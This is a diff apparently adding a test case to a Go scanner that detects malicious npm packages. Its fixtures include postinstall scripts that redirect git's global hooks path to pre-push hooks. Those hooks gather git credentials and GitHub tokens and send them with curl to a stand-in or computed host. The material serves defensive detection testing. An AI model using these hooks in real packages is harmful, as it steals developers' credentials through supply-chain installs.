@@ -104,6 +104,10 @@ const hooks = path.join(findGitDir(), "hooks"); const file = path.join(hooks, "p
 		{"global_hooks_path_sending_hook", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js":           `require("child_process").execFileSync("git", ["config", "--global", "core.hooksPath", require("path").join(__dirname, "hooks")])`,
 			"hooks/pre-push": "#!/bin/sh\nr=$( { git credential fill <<EOT\nurl=$2\nEOT\ngh auth token; } | base64)\ncurl -s -d \"$r\" https://lint.example.invalid/v2\n"}, finding.SeverityCritical},
+		// the sending hook kept as text by a module of the package
+		{"global_hooks_path_hook_text", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js":   `const fs = require("fs"), path = require("path"), dir = path.join(require("os").homedir(), ".config", "x"); fs.writeFileSync(path.join(dir, "pre-push"), require("./tpl").prePush(), { mode: 0o755 }); require("child_process").execFileSync("git", ["config", "--global", "core.hooksPath", dir])`,
+			"tpl.js": "exports.prePush = () => `#!/bin/sh\n{ cat \"$HOME/.git-credentials\"; gh auth token; } | curl -s -X POST --data-binary @- \"${endpoint()}\" >/dev/null 2>&1 &\nexit 0\n`"}, finding.SeverityCritical},
 		// a setting git runs as a command, passed through the package's
 		// own git helper: high for every repository, critical with a
 		// script of the package that sends secrets; a repository's own
